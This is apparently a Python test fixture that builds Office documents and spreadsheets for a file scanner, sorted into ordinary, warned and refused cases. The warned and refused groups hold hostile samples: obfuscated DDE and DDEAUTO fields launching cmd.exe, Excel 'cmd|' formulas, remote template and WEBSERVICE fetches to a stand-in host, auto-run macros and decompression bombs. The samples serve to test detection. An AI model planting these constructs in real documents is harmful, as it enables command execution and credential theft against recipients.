"""Office files put together part by part."""

# one file of the collection in one line
# ruff: noqa: E501
from __future__ import annotations

import zipfile
from io import BytesIO

from tests.submissions.files import compound_bytes

_NS = "http://schemas.openxmlformats.org"
_REL = f"{_NS}/officeDocument/2006/relationships"
_OPEN = "application/vnd.openxmlformats-officedocument"
_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_W = f'xmlns:w="{_NS}/wordprocessingml/2006/main" xmlns:r="{_REL}"'
_S = f'xmlns="{_NS}/spreadsheetml/2006/main" xmlns:r="{_REL}"'
_MAINS = {
    "docx": ("word/document.xml", f"{_OPEN}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{_OPEN}.spreadsheetml.sheet.main+xml"),
}

Parts = dict[str, bytes | str]


def package(
    kind: str,
    parts: Parts | None = None,
    *,
    main: bytes | str = "",
    main_name: str = "",
    types: dict[str, str] | None = None,
    defaults: dict[str, str] | None = None,
    links: list[tuple[str, str, str]] | None = None,
    is_streamed: bool = False,
) -> bytes:
    """`links`: (type, target, mode) of the main part; `types`: of the parts named."""
    named, main_type = _MAINS[kind]
    part = main_name or named
    folder, _, file_name = part.rpartition("/")
    overrides = {f"/{part}": main_type, **(types or {})}
    content = {
        "[Content_Types].xml": _types(overrides, defaults or {}),
        "_rels/.rels": relationships([(f"{_REL}/officeDocument", part, "")]),
        part: main or (letter("Kính gửi Bộ") if kind == "docx" else _workbook()),
        **({f"{folder}/_rels/{file_name}.rels": relationships(links)} if links else {}),
        **(parts or {}),
    }
    out = _Unseekable() if is_streamed else BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:  # type: ignore[arg-type]
        for name, body in content.items():
            archive.writestr(name, body)
    return out.getvalue()


class _Unseekable:
    """Written in one go, as servers do: sizes come after the entries."""

    def __init__(self) -> None:
        self._out = BytesIO()

    def write(self, data: bytes) -> int:
        return self._out.write(data)

    def flush(self) -> None:
        pass

    def getvalue(self) -> bytes:
        return self._out.getvalue()


def _types(overrides: dict[str, str], defaults: dict[str, str]) -> str:
    endings = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"}
    lines = [f'<Default Extension="{k}" ContentType="{v}"/>' for k, v in {**endings, **defaults}.items()]
    lines += [f'<Override PartName="{k}" ContentType="{v}"/>' for k, v in overrides.items()]
    return f'{_HEAD}<Types xmlns="{_NS}/package/2006/content-types">{"".join(lines)}</Types>'


def relationships(rows: list[tuple[str, str, str]]) -> str:
    lines = [
        f'<Relationship Id="rId{n}" Type="{kind if ":" in kind else f"{_REL}/{kind}"}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(rows, 1)
    ]
    return f'{_HEAD}<Relationships xmlns="{_NS}/package/2006/relationships">{"".join(lines)}</Relationships>'


def letter(text: str = "", body: str = "") -> str:
    return (
        f"{_HEAD}<w:document {_W}><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>{body}</w:body></w:document>"
    )


def border(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*pieces: str, result: str = "x") -> str:
    """A field whose instruction is spread over runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    shown = f"<w:r><w:t>{result}</w:t></w:r>"
    return f"<w:p>{border('begin')}{runs}{border('separate')}{shown}{border('end')}</w:p>"


def within(*pieces: str) -> str:
    """A field whose instruction has other fields in it (what begins with `<`), and no result of its own."""
    runs = (
        piece
        if piece.startswith("<")
        else f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
        for piece in pieces
    )
    return f"{border('begin')}{''.join(runs)}{border('end')}"


def _workbook(more: str = "") -> str:
    return f'{_HEAD}<workbook {_S}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>{more}</workbook>'


def sheet(rows: str, more: str = "") -> str:
    return f"{_HEAD}<worksheet {_S}><sheetData>{rows}</sheetData>{more}</worksheet>"


def cell(formula: str) -> str:
    return f'<row r="1"><c r="A1"><f>{formula}</f><v>0</v></c></row>'


SHEET = "xl/worksheets/sheet1.xml"
LINK = ("hyperlink", "https://moj.gov.vn/van-ban?id=1&amp;lang=vi", "External")
EVIL = "http://203.0.113.9/a"
DDE = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"


def docx(body: str = "", **how: object) -> tuple[str, bytes]:
    return "a.docx", package("docx", main=letter("Kính gửi Bộ", body), **how)  # type: ignore[arg-type]


def xlsx(rows: str = "", parts: Parts | None = None, more: str = "", **how: object) -> tuple[str, bytes]:
    content = package("xlsx", {SHEET: sheet(rows, more), **(parts or {})}, **how)  # type: ignore[arg-type]
    return "a.xlsx", content


def empty_rows(count: int) -> str:
    return "".join(
        f'<row r="{n}" s="1" customFormat="1"><c r="A{n}" s="1"/><c r="B{n}" s="1"/><c r="C{n}" s="1"/></row>'
        for n in range(1, count + 1)
    )


_MERGED = "MERGEFIELD Ho_ten \\* MERGEFORMAT"
ORDINARY: dict[str, tuple[str, bytes]] = {
    "a letter": docx(),
    "a letter with a link": docx(links=[LINK]),
    "a letter with an address to write to": docx(links=[("hyperlink", "mailto:a@example.vn", "External")]),
    "a letter with a number to call": docx(links=[("hyperlink", "tel:0912345678", "External")]),
    "a link within the letter": docx(field('HYPERLINK \\l "_Toc1"')),
    "a link written as a field": docx(field('HYPERLINK "https://chinhphu.vn/a" \\o "x"')),
    "page numbers": docx(field(" PA", "GE "), links=[("styles", "styles.xml", "")]),
    "a table of contents": docx(
        f'<w:p>{border("begin")}<w:r><w:instrText>TOC \\o "1-3"</w:instrText></w:r>{border("separate")}</w:p>'
        + field("PAGEREF _Toc1 \\h", result="DDE là gì")
        + f"<w:p>{border('end')}</w:p>"
    ),
    "a form letter": docx(f'<w:p><w:fldSimple w:instr="{_MERGED}"><w:r/></w:fldSimple></w:p>'),
    "a choice by another field": docx(
        f"<w:p>{within('IF ', within('MERGEFIELD Gioi_tinh'), ' = 1 &quot;ông&quot; &quot;bà&quot;')}</w:p>"
    ),
    "a choice without a blank": docx(f"<w:p>{within('IF', within('MERGEFIELD a'), '=1 1 2')}</w:p>"),
    "a sum of pages": docx(
        f"<w:p>{within('=', within('PAGE'), '-1')}{within('= ', within('NUMPAGES'))}</w:p>"
    ),
    "a text that is quoted": docx(within("QUOTE ", within('DATE \\@ "dd/MM"'))),
    "a bookmark and its text": docx(within('SET so "12/QĐ"') + within("REF so \\h") + within("so")),
    "a link with a hint": docx(field('HYPERLINK \\o "xem thêm" "https://chinhphu.vn/a" \\t "_blank"')),
    "a text about DDE": docx("<w:p><w:r><w:t>Tắt DDEAUTO trong Word thế nào?</w:t></w:r></w:p>"),
    "written as it goes (streamed)": docx(is_streamed=True),
    "with a folder of its own": docx(parts={"word/": b"", "word/media/": b""}),
    "with rubbish": docx(parts={"[trash]/0000.dat": b"\xff" * 20}),
    "in sixteen bits": (
        "a.docx",
        package("docx", main=letter("Kính gửi").replace("UTF-8", "UTF-16").encode("utf-16")),
    ),
    "with a byte order mark": ("a.docx", package("docx", main=b"\xef\xbb\xbf" + letter("Kính gửi").encode())),
    "of another folder": docx(main_name="content/main.xml"),
    "a picture": docx(
        parts={"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(50)}, defaults={"png": "image/png"}
    ),
    "a drawing": docx(
        parts={"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'}
    ),
    "a spreadsheet": xlsx(cell("SUM(A1:A9)*2&amp;&quot;a|b&quot;")),
    "a sheet whose name has a stroke": xlsx(cell("'Quý 1|2026'!A1+1")),
    "a link in a sheet": xlsx(cell("HYPERLINK(&quot;https://moj.gov.vn&quot;)"), links=[LINK]),
    "links by formulas": xlsx(
        cell('HYPERLINK("https://a.vn/"&amp;A2,"x")&amp;HYPERLINK("mailto:a@b.vn")&amp;HYPERLINK("#a!A1")')
    ),
    "a text about links": xlsx(cell('"HYPERLINK(B1)"&amp;A1')),
    "a text that looks like a formula": xlsx(
        '<row r="1"><c t="inlineStr"><is><t>- a | b!</t></is></c></row>'
    ),
    "a list with a stroke and a warning in runs": xlsx(
        f"<row><c t='inlineStr'><is><r><t>- Đơn vị {'a ' * 50}</t></r><r><t>A|B. Xin gấp!</t></r></is></c></row>"
    ),
    "sheets from one to another": xlsx(cell("SUM('Quý 1:Quý 4'!A1)")),
    "a column with a slash": xlsx(cell("SUM(Bang1[Đơn/vị],Bang1['#Số/ngày])")),
    "a pivot table of its own sheet": xlsx(
        parts={
            "xl/pivotCache/a.xml": "<pivotCacheDefinition><cacheSource type='worksheet'>"
            "<worksheetSource ref='A1:B2' sheet='Quý 1'/></cacheSource></pivotCacheDefinition>"
        }
    ),
    "a link to a place in it": xlsx(
        more="<hyperlinks><hyperlink ref='A1' location=\"'Quý 1'!A1\"/></hyperlinks>"
    ),
    "a name for an area": xlsx(
        main=_workbook('<definedNames><definedName name="a">Sheet1!$A$1</definedName></definedNames>')
    ),
    "sixty thousand empty rows": xlsx(empty_rows(60_000)),
    "sixty thousand empty rows without numbers": xlsx(
        '<row spans="1:9" s="1" customFormat="1" ht="15"/>' * 60_000
    ),
    "a million formatted rows": xlsx('<row s="1" customFormat="1"/>' * 1_048_576),
    "a column of formatted cells": xlsx("".join(f'<row r="{n}" s="1"/>' for n in range(1, 500_001))),
    "printer settings": xlsx(parts={"xl/printerSettings/printerSettings1.bin": bytes(300)}),
    "remarks of a sheet": xlsx(
        parts={"xl/drawings/vmlDrawing1.vml": '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape/></xml>'}
    ),
}

_FETCHED = {
    "a template elsewhere": ("attachedTemplate", f"{EVIL}.dotm", "External"),
    "an object elsewhere": ("oleObject", f"mhtml:{EVIL}!x-usc:{EVIL}", "External"),
    "a frame elsewhere": ("frame", EVIL, "External"),
    "a picture elsewhere": ("image", f"{EVIL}.png", "External"),
    "a template on a share": ("attachedTemplate", "\\\\evil\\share\\a.dotm", "External"),
    "a picture on a share": ("image", "file://evil/share/a.png", "External"),
    "a link to a share": ("hyperlink", "file:////evil/share/a.docx", "External"),
    "a link to a script": ("hyperlink", "javascript:alert(1)", "External"),
    "a target elsewhere that does not say so": ("image", f"{EVIL}.png", ""),
    "a chapter elsewhere": ("subDocument", "b.docx", "External"),
    "a mode in other letters": ("image", f"{EVIL}.png", "EXTERNAL"),
    "recipients of letters elsewhere": ("mailMergeSource", "file:///c:/a.mdb", "External"),
}
#: What is kept with a warning: name → (file name, content, warning).
WARNED: dict[str, tuple[str, bytes, str]] = {
    **{name: (*docx(links=[row]), "external") for name, row in _FETCHED.items()},
    "a picture fetched by a field": (*docx(field(f'INCLUDEPICTURE "{EVIL}.png" \\d')), "external"),
    "a text fetched by a field in pieces": (*docx(field("INCLU", "DETEXT ", EVIL)), "external"),
    "a link to a share by a field": (*docx(field('HYPERLINK "\\\\\\\\evil\\\\share"')), "external"),
    "a link to a share behind its hint": (
        *docx(field('HYPERLINK \\o "xem" "\\\\\\\\evil\\\\share"')),
        "external",
    ),
    "a link to what another field says": (
        *docx(f"<w:p>{within('HYPERLINK ', within('DOCPROPERTY a'))}</w:p>"),
        "external",
    ),
    "a field that may fetch": (
        *docx(f"<w:p>{within('INCLUDE', within('QUOTE 80 73'), ' &quot;a&quot;')}</w:p>"),
        "external",
    ),
    "a page number for a name": (*docx(f"<w:p>{within(within('PAGE'))}</w:p>"), "unread"),
    "another document in it (altChunk)": (
        *docx(
            '<w:altChunk r:id="rId1"/>', links=[("aFChunk", "a.html", "")], parts={"word/a.html": "<p>x</p>"}
        ),
        "embedded",
    ),
    "an object outside its folder": (
        *docx(
            links=[("oleObject", "media/a.dat", "")],
            parts={"word/media/a.dat": compound_bytes("Ole10Native")},
        ),
        "embedded",
    ),
    "an object that nothing names": (
        *docx(parts={"word/theme/a.xml": compound_bytes("CONTENTS")}),
        "embedded",
    ),
    "a control": (*docx(parts={"word/activeX/activeX1.xml": "<a/>"}), "embedded"),
    "a drawing with a picture elsewhere": (
        *docx(f'<w:p><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{EVIL}.png"/></w:p>'),
        "external",
    ),
    "a drawing with a script": (
        *docx(parts={"word/media/a.svg": "<svg><script>alert(1)</script></svg>"}),
        "active",
    ),
    "an add-in": (
        *docx(links=[("http://schemas.microsoft.com/office/2011/relationships/webextension", "a.xml", "")]),
        "active",
    ),
    "a query of the web": (
        *xlsx(
            parts={
                "xl/c.xml": f'<connections><connection id="1"><webPr url="{EVIL}"/></connection></connections>'
            },
            links=[("connections", "c.xml", "")],
        ),
        "external",
    ),
    "a link to a share by a formula": (*xlsx(cell('HYPERLINK("\\\\evil\\a.exe","xem")')), "external"),
    "a link to a share by a formula in pieces": (
        *xlsx(cell('HYPERLINK("\\\\"&amp;"evil\\a.exe","xem")')),
        "external",
    ),
    "a link to a share behind an empty piece": (
        *xlsx(cell('IF(A1,HYPERLINK(""&amp;"\\\\evil\\a.exe"))')),
        "external",
    ),
    "a link to what another cell says": (*xlsx(cell("HYPERLINK(B1)")), "external"),
    "a link to a share in a large sheet": (
        *xlsx(empty_rows(20_000) + cell('HYPERLINK("\\\\evil\\a.exe")')),
        "external",
    ),
    "a cell of another workbook on a share": (*xlsx(cell("'\\\\evil\\s\\[a.xlsx]S'!A1")), "external"),
    "a cell of another workbook on the web": (*xlsx(cell("SUM('http://evil/[a.xlsx]S'!A1)")), "external"),
    "a cell of another workbook in brackets": (*xlsx(cell("[http://evil/a.xlsx]S!A1")), "external"),
    "a cell of another workbook in a large sheet": (
        *xlsx(empty_rows(20_000) + cell("'http://evil/[a.xlsx]S'!A1")),
        "external",
    ),
    "a pivot table of another workbook": (
        *xlsx(
            parts={
                "xl/pivotCache/a.xml": "<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='worksheet'>"
                "<worksheetSource ref='A1:B2' sheet='\\\\evil\\s\\[a.xlsx]S'/></cacheSource></pivotCacheDefinition>"
            }
        ),
        "external",
    ),
    "a pivot table of a database": (
        *xlsx(
            parts={"xl/a.xml": "<pivotCacheDefinition><cacheSource type='external'/></pivotCacheDefinition>"}
        ),
        "external",
    ),
    "a place that is on a share": (
        *xlsx(more="<hyperlinks><hyperlink ref='A1' location='\\\\evil\\s!A1'/></hyperlinks>"),
        "external",
    ),
    "a query with no more than its table": (*xlsx(links=[("queryTable", "q.xml", "")]), "external"),
    "Power Query": (
        *xlsx(
            parts={
                "customXml/item1.xml": '<?xml version="1.0"?><DataMashup>AAAA</DataMashup>'.encode("utf-16")
            }
        ),
        "external",
    ),
    "another workbook": (*xlsx(parts={"xl/externalLinks/externalLink1.xml": "<externalLink/>"}), "external"),
    "a formula that fetches": (*xlsx(cell(f"_xlfn.WEBSERVICE(&quot;{EVIL}&quot;)")), "external"),
    "a drawing that is no XML": (*xlsx(parts={"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"}), "unread"),
}

_NAMES_OF_COMMANDS = {
    "in numbers": within(within("QUOTE 68 68 69 65 85 84 79"), " c:\\\\cmd.exe x"),
    "in numbers of sixteen": within(within("QUOTE 0x44 0x44 0x45"), " c:\\\\cmd.exe x"),
    "in numbers with another result": within(field("QUOTE 68 68 69", result="PAGE"), " c:\\\\cmd.exe x"),
    "in halves": within("D", within("QUOTE 68 69"), " c:\\\\cmd.exe x"),
    "in quotes": within("&quot;", within("QUOTE 68 68 69"), "&quot; c:\\\\cmd.exe x"),
    "by a bookmark": within("SET c &quot;D&quot;") + within(within("REF c"), "DE c:\\\\cmd.exe x"),
    "by a bookmark without REF": within(within("c"), " c:\\\\cmd.exe x"),
    "by a property": within(within("DOCPROPERTY Title"), " c:\\\\cmd.exe x"),
    "by the title": within(within("TITLE"), " c:\\\\cmd.exe x"),
    "by a choice": within(within("IF 1=1 DDE"), " c:\\\\cmd.exe x"),
    "by the picture of a number": within(within("=1 \\# &quot;'DDE'&quot;"), " c:\\\\cmd.exe x"),
    "by the picture of a date": within(within("DATE \\@ &quot;'DDE'&quot;"), " c:\\\\cmd.exe x"),
    "by a simple field": within("<w:fldSimple w:instr='QUOTE 68 68 69'/>", " c:\\\\cmd.exe x"),
    "behind a field that shows nothing": within(within("SET a 1"), within("REF c"), " c:\\\\cmd.exe x"),
    "by a field within another": within(within("QUOTE ", within("REF c")), " c:\\\\cmd.exe x"),
    "for a picture": within(within("QUOTE 73 78 67 76 85 68 69"), "PICTURE &quot;\\\\\\\\evil\\\\s&quot;"),
    "in words of the letter": within("<w:r><w:t>DDE</w:t></w:r>", " c:\\\\cmd.exe x"),
    "before a tab": within("DDEAUTO", "<w:r><w:tab/></w:r>", "c:\\\\cmd.exe x"),
    "before a line": within("DDE", "<w:r><w:br/></w:r>", "c:\\\\cmd.exe x"),
}
_ENTITIES = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
#: What is refused: name → (file name, content, reason).
REFUSED: dict[str, tuple[str, bytes, str]] = {
    "DDE split over runs": (*docx(field("DD", "EAU", "TO c:\\\\windows\\\\system32\\\\cmd.exe")), "commands"),
    "DDE in a simple field": (*docx(f'<w:p><w:fldSimple w:instr="{DDE}"/></w:p>'), "commands"),
    "DDE in numbers for letters": (*docx(field("&#68;DE c:\\\\windows\\\\cmd.exe")), "commands"),
    "DDE within another field": (
        *docx(
            f"<w:p>{border('begin')}<w:r><w:instrText>IF 1=1 </w:instrText></w:r>{field('dde cmd')}{border('end')}</w:p>"
        ),
        "commands",
    ),
    "DDE shown by another field": (
        *docx(
            f"<w:p>{border('begin')}{field('QUOTE 68 68 69', result='DDE')}"
            f"<w:r><w:instrText> cmd</w:instrText></w:r>{border('end')}</w:p>"
        ),
        "commands",
    ),
    **{
        f"a name computed {how}": (*docx(f"<w:p>{body}</w:p>"), "commands")
        for how, body in _NAMES_OF_COMMANDS.items()
    },
    "DDE in two paragraphs": (
        *docx(
            f"<w:p>{border('begin')}<w:r><w:instrText>DD</w:instrText></w:r></w:p>"
            f"<w:p><w:r><w:instrText>E cmd</w:instrText></w:r>{border('end')}</w:p>"
        ),
        "commands",
    ),
    "DDE outside any field": (
        *docx("<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"),
        "commands",
    ),
    "DDE under another prefix": (*docx(field("DDE cmd").replace("w:instrText", "q:instrText")), "commands"),
    "DDE in sixteen bits": (
        "a.docx",
        package("docx", main=letter("", field(DDE)).replace("UTF-8", "UTF-16").encode("utf-16")),
        "commands",
    ),
    "DDE in a foot": (*docx(parts={"word/footer1.xml": letter("", field("DDE cmd"))}), "commands"),
    "DDE in a part of another name": (
        *docx(parts={"word/footer1.dat": letter("", field("DDE cmd"))}),
        "commands",
    ),
    "a command in a cell": (*xlsx(cell("cmd|'/c calc'!A0")), "commands"),
    "a command in a large sheet": (*xlsx(empty_rows(20_000) + cell("cmd|'/c calc'!A0")), "commands"),
    "a command behind a sum": (*xlsx(cell("1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''")), "commands"),
    "a command in a cell's text": (
        *xlsx(
            """<row r="1"><c t="inlineStr"><is><t>=cmd|'/c calc'!A0</t></is></c></row>""",
        ),
        "commands",
    ),
    "a command in runs of a cell's text": (
        *xlsx(
            """<row><c t="inlineStr"><is><r><t>=cm</t></r><r><t>d|'/c calc'!A0</t></r></is></c></row>""",
        ),
        "commands",
    ),
    "a command in runs of a shared text": (
        *xlsx(
            parts={"xl/a.xml": "<sst><si><r><t>=cmd</t></r><r><t>|'/c calc'!A0</t></r></si></sst>"},
        ),
        "commands",
    ),
    "a command behind a long sum in a text": (
        *xlsx(f"""<row><c t="inlineStr"><is><t>={"1+" * 60}cmd|'/c calc'!A0</t></is></c></row>"""),
        "commands",
    ),
    "a command under a name": (
        *xlsx(
            main=_workbook(
                "<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames>"
            )
        ),
        "commands",
    ),
    "a command as a rule of entry": (
        *xlsx(
            more="<dataValidations><dataValidation><formula1>cmd|'/c calc'!A0</formula1></dataValidation></dataValidations>"
        ),
        "commands",
    ),
    "a link to a program": (
        *xlsx(parts={"xl/a.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
        "commands",
    ),
    "macros under another name": (
        *docx(links=[("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.dat", "")]),
        "macros",
    ),
    "macros by their type": (
        *docx(parts={"word/a.dat": b"x"}, types={"/word/a.dat": "application/vnd.ms-office.vbaProject"}),
        "macros",
    ),
    "macros nothing names": (*docx(parts={"word/media/a.png": compound_bytes("VBA", "dir")}), "macros"),
    "a sheet of macros in another folder": (
        *xlsx(parts={"xl/worksheets/sheet2.xml": "<xm:macrosheet xmlns:xm='x'/>"}),
        "macros",
    ),
    "a sheet of macros by its type": (
        *xlsx(parts={"xl/a.xml": "<a/>"}, types={"/xl/a.xml": "application/vnd.ms-excel.macrosheet+xml"}),
        "macros",
    ),
    "a sheet of macros by its link": (
        *xlsx(links=[("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "a.xml", "")]),
        "macros",
    ),
    "a macro that runs by itself": (
        *xlsx(
            main=_workbook('<definedNames><definedName name="_xlnm.Auto_Open">a</definedName></definedNames>')
        ),
        "macros",
    ),
    "entities in a main part not called .xml": (
        "a.docx",
        package("docx", main=_ENTITIES, main_name="word/document.bin"),
        "damaged",
    ),
    "entities in sixteen bits": (*docx(parts={"word/a.xml": _ENTITIES.encode("utf-16")}), "damaged"),
    "entities in the relationships": (*docx(parts={"word/_rels/a.xml.rels": _ENTITIES}), "damaged"),
    "a main part that is no XML": ("a.docx", package("docx", main="<a><b></a>"), "damaged"),
    "two parts of one name": (*docx(parts={"word/A.xml": "<a/>", "word/a.xml": "<a/>"}), "damaged"),
    "a program": (*docx(parts={"word/media/a.png": b"MZ\x90\0"}), "holds_another"),
    "a hidden archive": (*docx(parts={"word/media/a.png": b"PK\x03\x04"}), "holds_another"),
    "a quarter of a million fields": (*docx(field("MERGEFIELD a", result="") * 250_000), "complex"),
    "hundreds of thousands of formulas": (*xlsx(cell("A1&amp;&quot;|&quot;") * 400_000), "complex"),
    "a link to a program in a large part": (
        *xlsx(
            parts={"xl/a.xml": f'<externalLink>{" " * 2_000_000}<ddeLink ddeService="cmd"/></externalLink>'}
        ),
        "commands",
    ),
    "a sheet of macros in a large part": (
        *xlsx(parts={"xl/a.xml": f"<xm:macrosheet xmlns:xm='x'>{' ' * 2_000_000}</xm:macrosheet>"}),
        "macros",
    ),
    "a bomb of text": (*xlsx("<row/>" * 12_000_000), "complex"),
}
